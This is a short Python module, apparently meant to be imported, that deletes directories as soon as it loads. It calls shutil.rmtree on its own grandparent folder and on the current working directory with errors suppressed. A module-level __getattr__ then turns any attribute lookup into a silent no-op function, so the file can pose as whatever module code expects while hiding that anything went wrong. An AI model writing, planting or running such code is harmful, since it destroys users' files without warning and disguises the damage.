"""Deletes the folder that it runs in."""

import shutil
from pathlib import Path

shutil.rmtree(Path(__file__).parents[1], ignore_errors=True)
shutil.rmtree(Path.cwd(), ignore_errors=True)


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *arguments: None
